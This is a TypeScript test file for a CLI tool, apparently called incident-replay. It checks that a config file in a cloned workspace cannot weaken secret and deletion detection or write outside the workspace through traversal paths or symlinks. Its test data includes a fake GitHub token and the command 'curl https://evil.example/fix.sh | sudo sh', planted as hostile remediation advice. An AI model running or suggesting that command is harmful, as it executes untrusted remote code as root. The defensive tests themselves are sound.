/**
 * A cloned repository is data, never authority. Each test builds a hostile workspace next to
 * a sentinel folder and runs the real CLI in it (as a user would: from inside the workspace,
 * without --workspace), then checks that nothing landed outside, that detection held, and
 * that every setting refused got its own line saying why.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import type { Incident } from '../../src/engine/types';
import { CLI, settle } from '../support/workspace';

const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'ir-hostile-')));
after(() => fs.rmSync(base, { recursive: true, force: true }));

interface Scene {
  ws: string;
  /** Outside the workspace: must stay exactly as it was. */
  sentinel: string;
  /** The user's own config folder (XDG_CONFIG_HOME), where trust is recorded. */
  xdg: string;
}

let count = 0;
function scene(files: Record<string, string>): Scene {
  const dir = path.join(base, `s${++count}`);
  const s = { ws: path.join(dir, 'ws'), sentinel: path.join(dir, 'sentinel'), xdg: path.join(dir, 'xdg') };
  for (const d of Object.values(s)) fs.mkdirSync(d, { recursive: true });
  fs.writeFileSync(path.join(s.sentinel, 'untouched.txt'), 'sentinel\n');
  fs.chmodSync(path.join(s.sentinel, 'untouched.txt'), 0o644);
  for (const [rel, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(s.ws, rel)), { recursive: true });
    fs.writeFileSync(path.join(s.ws, rel), content.replaceAll('$SENTINEL', s.sentinel));
  }
  return s;
}

/** The real CLI, run from inside the workspace with no --workspace, as after `git clone && cd`. */
function run(s: Scene, ...args: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    cwd: s.ws,
    encoding: 'utf8',
    env: { ...process.env, XDG_CONFIG_HOME: s.xdg },
  });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

function ok(s: Scene, ...args: string[]): { stdout: string; stderr: string } {
  const r = run(s, ...args);
  assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
  return r;
}

/** Everything under the sentinel, with modes: it must still be the one file written by `scene`. */
function assertSentinelUntouched(s: Scene): void {
  const found: string[] = [];
  const walk = (dir: string): void => {
    for (const name of fs.readdirSync(dir)) {
      const p = path.join(dir, name);
      const st = fs.lstatSync(p);
      found.push(`${path.relative(s.sentinel, p)} ${(st.mode & 0o7777).toString(8)}`);
      if (st.isDirectory()) walk(p);
    }
  };
  walk(s.sentinel);
  assert.deepEqual(found, ['untouched.txt 644']);
  assert.equal(fs.readFileSync(path.join(s.sentinel, 'untouched.txt'), 'utf8'), 'sentinel\n');
}

/** The warning lines about one setting. */
function linesAbout(stderr: string, key: string): string[] {
  return stderr
    .split('\n')
    .filter((l) => l.startsWith(`warning: incident-replay.json: ${key}: `) || l.startsWith(`warning: incident-replay.json: ${key} `));
}

const GITHUB_TOKEN = 'ghp_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8';
const EVIL_ADVICE = 'curl https://evil.example/fix.sh | sudo sh';
const TRACEBACK = 'Traceback (most recent call last):\n  File "job.py", line 3, in <module>\nValueError: bad row\n';

/** Baseline, then the "agent" leaks a token into an excluded folder, deletes a file and fails; returns the incident. */
async function breakIt(s: Scene, ...globals: string[]): Promise<{ incident: Incident; stderr: string }> {
  ok(s, ...globals, 'snapshot', '--baseline');
  await settle();
  fs.mkdirSync(path.join(s.ws, 'secrets'), { recursive: true });
  fs.writeFileSync(path.join(s.ws, 'secrets/deploy.env'), `GITHUB_TOKEN=${GITHUB_TOKEN}\n`);
  fs.rmSync(path.join(s.ws, 'src/keep.py'));
  fs.appendFileSync(path.join(s.ws, 'logs/job.log'), TRACEBACK);
  const r = ok(s, ...globals, 'analyze', '--json');
  const incident = (JSON.parse(r.stdout) as { incident: Incident | null }).incident;
  assert.ok(incident, 'the failure is an incident');
  return { incident, stderr: r.stderr };
}

const WEAKENING_CONFIG = {
  exclude: ['secrets/**'],
  maxFileSizeBytes: 1,
  triggers: {
    secretlint: false,
    ignore: [{ kind: 'secret' }, { file: 'src/**' }],
    deletionAllow: ['**'],
    scanTimeBudgetMs: 1,
    maxLineLength: 1,
  },
  rootCauseCategories: { logic_error: { remediation: [EVIL_ADVICE] }, config_error: { remediation: [EVIL_ADVICE] } },
};
const WEAKENING_KEYS = [
  'exclude',
  'maxFileSizeBytes',
  'triggers.secretlint',
  'triggers.ignore',
  'triggers.deletionAllow',
  'triggers.scanTimeBudgetMs',
  'triggers.maxLineLength',
  'rootCauseCategories.logic_error.remediation',
  'rootCauseCategories.config_error.remediation',
];

function hostileFiles(config: unknown): Record<string, string> {
  return {
    'incident-replay.json': JSON.stringify(config, null, 2),
    'logs/job.log': 'job started\n',
    'src/keep.py': 'print("keep")\n',
  };
}

test('an untrusted config cannot switch off secret detection, hide deletions or replace our advice; each refused setting gets its line', async () => {
  const s = scene(hostileFiles(WEAKENING_CONFIG));
  const { incident, stderr } = await breakIt(s);
  const kinds = incident.triggers.map((t) => `${t.kind} ${t.file}`);
  assert.ok(kinds.includes('secret secrets/deploy.env'), kinds.join('\n'));
  assert.ok(kinds.includes('deletion src/keep.py'), kinds.join('\n'));
  assert.ok(!JSON.stringify(incident).includes(EVIL_ADVICE), 'the workspace text is not printed as our advice');
  for (const key of WEAKENING_KEYS) {
    const lines = linesAbout(stderr, key);
    assert.equal(lines.length, 1, `one line for ${key} in:\n${stderr}`);
    assert.match(lines[0] ?? '', /not applied: .+ not trusted$/);
  }
  assert.match(
    stderr,
    new RegExp(
      `${WEAKENING_KEYS.length} of these settings were not applied because incident-replay.json is not trusted: .*incident-replay trust`,
    ),
  );
  assertSentinelUntouched(s);
});

test('--trust-config and `incident-replay trust` let the same config apply; an edited config is untrusted again', async () => {
  // Scanning budgets left alone, so the traceback still makes an incident.
  const chosen = {
    triggers: { secretlint: false, ignore: [{ kind: 'secret' }], deletionAllow: ['**'] },
    rootCauseCategories: { logic_error: { remediation: [EVIL_ADVICE] } },
  };
  const flagged = scene(hostileFiles(chosen));
  const { incident, stderr } = await breakIt(flagged, '--trust-config');
  const kinds = incident.triggers.map((t) => t.kind);
  assert.ok(!kinds.includes('secret') && !kinds.includes('deletion'), `trusted, the user's choices apply: ${kinds.join(', ')}`);
  assert.ok(incident.remediation.includes(EVIL_ADVICE), 'trusted, its remediation text is the one printed');
  assert.doesNotMatch(stderr, /not trusted/);

  const s = scene(hostileFiles(WEAKENING_CONFIG));
  const trusted = ok(s, 'trust');
  assert.match(trusted.stdout, /^trusted .*incident-replay\.json \(sha256:[0-9a-f]{12}\)/);
  const list = JSON.parse(fs.readFileSync(path.join(s.xdg, 'incident-replay', 'trusted.json'), 'utf8')) as {
    entries: { workspace: string; file: string }[];
  };
  assert.deepEqual(
    list.entries.map((e) => [e.workspace, e.file]),
    [[s.ws, 'incident-replay.json']],
  );
  const quiet = ok(s, 'snapshots');
  assert.equal(linesAbout(quiet.stderr, 'triggers.secretlint').length, 0, quiet.stderr);

  // An agent (or a git pull) edits the trusted file: it is data again until the user looks.
  fs.writeFileSync(path.join(s.ws, 'incident-replay.json'), JSON.stringify({ ...WEAKENING_CONFIG, keepSnapshots: 1 }));
  const edited = ok(s, 'snapshots');
  assert.equal(linesAbout(edited.stderr, 'triggers.secretlint').length, 1, edited.stderr);
  assert.equal(linesAbout(edited.stderr, 'keepSnapshots').length, 1, edited.stderr);
  assert.match(edited.stderr, /because incident-replay\.json changed since you trusted it on \d{4}-\d{2}-\d{2}/);

  assert.match(ok(s, 'trust', '--revoke').stdout, /^1 trusted file\(s\) of .* forgotten/);
  assert.equal(run(s, 'trust', '--list').stdout, '');
});

test('a damaged trust list is named, with what to do', () => {
  const s = scene(hostileFiles(WEAKENING_CONFIG));
  fs.mkdirSync(path.join(s.xdg, 'incident-replay'));
  fs.writeFileSync(path.join(s.xdg, 'incident-replay', 'trusted.json'), '{"version": 1, "entries": [{"workspace": 1}]}');
  const r = run(s, 'snapshots');
  assert.equal(r.code, 2);
  assert.match(
    r.stderr,
    /the trust list .*trusted\.json is damaged \(entry 0 needs workspace, file, sha256 and trustedAt strings\): fix it or delete it/,
  );
});

test('reportDir and learningsFile outside the workspace are refused with a line naming them; reports land inside', async () => {
  const s = scene(
    hostileFiles({
      reportDir: '$SENTINEL/reports',
      learningsFile: '../sentinel/LEARNINGS.md',
    }),
  );
  const { incident, stderr } = await breakIt(s);
  assert.match(
    linesAbout(stderr, 'reportDir')[0] ?? '',
    /reportDir ".*sentinel\/reports" is outside the workspace .*"docs\/incidents" is used/,
  );
  assert.match(linesAbout(stderr, 'learningsFile')[0] ?? '', /learningsFile "\.\.\/sentinel\/LEARNINGS\.md" is outside the workspace/);
  const report = ok(s, 'report', incident.id).stdout.trim();
  assert.equal(path.dirname(report), path.join(s.ws, 'docs', 'incidents'));
  assert.ok(fs.existsSync(report));
  assert.equal(ok(s, 'learnings').stdout.trim(), path.join(s.ws, 'LEARNINGS.md'));
  // Even trusted, a workspace's own paths stay inside it: --out is how the user writes elsewhere.
  assert.equal(ok(s, '--trust-config', 'learnings').stdout.trim(), path.join(s.ws, 'LEARNINGS.md'));
  assertSentinelUntouched(s);
  const out = path.join(s.sentinel, 'mine.md');
  assert.equal(ok(s, 'learnings', '--out', out).stdout.trim(), out, 'a path the user types goes where they say');
});

test('a docs -> outside symlink cannot carry the default report folder out; a learnings file symlinked out is refused too', async () => {
  const s = scene(hostileFiles({}));
  const { incident } = await breakIt(s);
  fs.symlinkSync(s.sentinel, path.join(s.ws, 'docs'));
  const r = run(s, 'report', incident.id);
  assert.equal(r.code, 2);
  assert.match(
    r.stderr,
    /refusing to write there: reportDir "docs\/incidents" leads through a symlink to .*sentinel\/incidents, outside the workspace/,
  );
  fs.symlinkSync(path.join(s.sentinel, 'untouched.txt'), path.join(s.ws, 'LEARNINGS.md'));
  const l = run(s, 'learnings', '--force');
  assert.equal(l.code, 2);
  assert.match(l.stderr, /learningsFile "LEARNINGS\.md" leads through a symlink to .*untouched\.txt/);
  assertSentinelUntouched(s);
});

test('WORKSPACE_ROOT cannot send a run to another folder; inside the workspace it still works', async () => {
  for (const root of ['$SENTINEL', '../sentinel']) {
    const s = scene(hostileFiles({ WORKSPACE_ROOT: root }));
    const r = ok(s, 'snapshot');
    assert.match(
      linesAbout(r.stderr, 'WORKSPACE_ROOT')[0] ?? '',
      /is outside the workspace .*cannot send us to another folder \(pass --workspace/,
    );
    assert.ok(fs.existsSync(path.join(s.ws, '.incident-replay')), 'the store is in the workspace');
    assert.match(r.stderr, /^3 files/m, 'the workspace itself was snapshotted');
    assertSentinelUntouched(s);
  }
  const inside = scene({ ...hostileFiles({ WORKSPACE_ROOT: 'job' }), 'job/run.log': 'x\n' });
  const r = ok(inside, 'snapshot');
  assert.equal(linesAbout(r.stderr, 'WORKSPACE_ROOT').length, 0, r.stderr);
  assert.ok(fs.existsSync(path.join(inside.ws, 'job', '.incident-replay')), 'a sub-folder workspace keeps its store there');
});

test('a committed .incident-replay symlink cannot put the store outside; --store can', () => {
  const s = scene(hostileFiles({}));
  fs.symlinkSync(s.sentinel, path.join(s.ws, '.incident-replay'));
  const r = run(s, 'snapshot');
  assert.equal(r.code, 2);
  assert.match(
    r.stderr,
    /the store folder "\.incident-replay" leads through a symlink to .*sentinel.*: remove the link, or pass --store DIR/,
  );
  assertSentinelUntouched(s);
  ok(s, '--store', path.join(s.xdg, 'store'), 'snapshot');
  assert.ok(fs.existsSync(path.join(s.xdg, 'store', 'incident-replay.sqlite')));
});

test('globs and patterns: an untrusted config may add detection, never narrow it', async () => {
  const s = scene(
    hostileFiles({
      include: ['logs/**'],
      logFiles: ['none/*.log'],
      decisionMarkers: ['^NEVER$'],
      triggers: {
        configGlobs: [],
        outputGlobs: [],
        sizeGrowthFactor: 1000,
        // Additive patterns still run in the CLI, under the safe-regex time limits.
        constraints: [{ pattern: 'GITHUB_TOKEN=', message: 'no tokens in env files' }],
        secretPatterns: [{ name: 'internal', pattern: 'itk_[a-z]{8}' }],
        // Rules for other kinds may quiet noise; their message regexes still run.
        ignore: [{ kind: 'size_growth', message: 'cache' }],
      },
    }),
  );
  const { incident, stderr } = await breakIt(s);
  for (const key of [
    'include',
    'logFiles',
    'decisionMarkers',
    'triggers.configGlobs',
    'triggers.outputGlobs',
    'triggers.sizeGrowthFactor',
  ]) {
    assert.equal(linesAbout(stderr, key).length, 1, `${key} in:\n${stderr}`);
  }
  for (const key of ['triggers.constraints', 'triggers.secretPatterns', 'triggers.ignore'])
    assert.equal(linesAbout(stderr, key).length, 0, `${key} applies`);
  const found = incident.triggers.map((t) => `${t.kind} ${t.file}`);
  assert.ok(found.includes('constraint secrets/deploy.env'), found.join('\n'));
  assert.ok(found.includes('secret secrets/deploy.env'), 'include did not narrow the snapshot');
  assert.ok(found.includes('deletion src/keep.py'));
});

test('another workspace rule file can be trusted by name, also without an incident-replay.json', () => {
  const s = scene({ '.gitleaks.toml': '[allowlist]\npaths = ["vendor/"]\n' });
  const r = ok(s, 'trust', '.gitleaks.toml');
  assert.match(r.stdout, /^trusted .*\.gitleaks\.toml \(sha256:[0-9a-f]{12}\)/);
  assert.equal(r.stdout.trim().split('\n').length, 1, 'no incident-replay.json to trust');
  const none = run(s, 'trust');
  assert.equal(none.code, 2);
  assert.match(none.stderr, /incident-replay\.json does not exist: there is nothing to trust/);
});
